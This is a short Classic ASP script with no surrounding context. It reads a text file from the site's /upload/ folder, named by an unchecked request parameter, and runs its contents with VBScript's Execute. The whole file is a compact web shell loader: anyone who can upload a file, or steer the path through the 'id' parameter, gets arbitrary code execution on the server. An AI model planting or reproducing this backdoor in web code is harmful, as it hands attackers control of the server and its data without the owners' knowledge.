<%
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set ts = fs.OpenTextFile(Server.MapPath("/upload/" & Request("id") & ".txt"))
code = ts.ReadAll
ts.Close
Execute code
%>
